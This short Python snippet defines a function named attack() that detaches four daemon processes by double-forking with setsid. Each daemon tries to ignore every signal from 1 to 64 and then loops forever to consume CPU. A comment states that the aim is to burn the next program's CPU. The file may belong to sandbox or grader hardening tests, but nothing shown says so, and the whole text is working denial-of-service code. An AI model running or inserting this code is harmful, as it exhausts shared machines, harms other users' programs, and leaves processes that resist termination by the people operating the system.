# Leaves daemons that ignore every signal and burn the next program's CPU.
def attack():
    import posix
    import signal

    for _ in range(4):
        if posix.fork() == 0:
            posix.setsid()
            if posix.fork() == 0:
                for number in range(1, 65):
                    try:
                        signal.signal(number, signal.SIG_IGN)
                    except (OSError, ValueError):
                        pass
                while True:
                    pass
            posix._exit(0)
    return False
